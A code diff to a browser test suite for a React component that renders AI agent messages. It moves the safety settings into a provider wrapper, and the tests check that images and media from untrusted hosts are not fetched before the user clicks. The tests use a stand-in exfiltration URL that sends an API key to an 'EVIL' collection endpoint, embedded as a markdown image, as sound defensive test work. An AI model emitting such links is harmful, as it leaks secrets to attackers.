@@ -8,7 +8,7 @@ import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { render } from 'vitest-browser-react';
 import { page, userEvent } from 'vitest/browser';
 import type { Msg } from '../../src/index.js';
-import { Message } from '../../src/index.js';
+import { AgentMessagesProvider, Message } from '../../src/index.js';
 import { EVIL, done, media, result, text, url } from './corpus/case.js';
 import {
   ALLOWED_MEDIA_PREFIX,
@@ -23,7 +23,11 @@ const SECRET = `https://${EVIL}/collect?q=API_KEY_123`;
 const POSTER = `https://${EVIL}/poster.png?q=API_KEY_123`;
 
 async function show(message: Msg) {
-  const screen = await render(<Message message={message} safety={SAFETY} />);
+  const screen = await render(
+    <AgentMessagesProvider safety={SAFETY}>
+      <Message message={message} />
+    </AgentMessagesProvider>,
+  );
   await frames();
   return screen.container;
 }
@@ -102,13 +106,21 @@ describe('no request before the user acts', () => {
   it('a click on one markdown image does not load the next image at the same position', async () => {
     const BENIGN = 'https://benign.example/c.png';
     const at = (markdown: string) => done(text(`Chart: ${markdown}`, { id: 't-recycled' }));
-    const screen = await render(<Message message={at(`![c](${BENIGN})`)} safety={SAFETY} />);
+    const screen = await render(
+      <AgentMessagesProvider safety={SAFETY}>
+        <Message message={at(`![c](${BENIGN})`)} />
+      </AgentMessagesProvider>,
+    );
     await userEvent.click(page.getByRole('button', { name: 'Load from benign.example' }));
     await settleRequests();
     expect(attemptedRequests()).toEqual([BENIGN]);
 
     // The same block regroups: react-markdown reuses the image component at this position.
-    await screen.rerender(<Message message={at(`![x](${SECRET})`)} safety={SAFETY} />);
+    await screen.rerender(
+      <AgentMessagesProvider safety={SAFETY}>
+        <Message message={at(`![x](${SECRET})`)} />
+      </AgentMessagesProvider>,
+    );
     await settleRequests();
     expect(attemptedRequests()).toEqual([BENIGN]);
     expect(scanDom(screen.container)).toEqual([]);
@@ -164,10 +176,11 @@ describe('no request before the user acts', () => {
   it('an allow-listed PDF is previewed at once', async () => {
     const own = `${location.origin}/__ram_test__/docs/`;
     const screen = await render(
-      <Message
-        message={done(media(url('/__ram_test__/docs/q3.pdf', 'application/pdf'), { page: 2 }))}
-        safety={{ mediaAllowlist: [own] }}
-      />,
+      <AgentMessagesProvider safety={{ mediaAllowlist: [own] }}>
+        <Message
+          message={done(media(url('/__ram_test__/docs/q3.pdf', 'application/pdf'), { page: 2 }))}
+        />
+      </AgentMessagesProvider>,
     );
     expect(screen.container.querySelector('iframe')?.getAttribute('src')).toBe(
       '/__ram_test__/docs/q3.pdf#page=2',
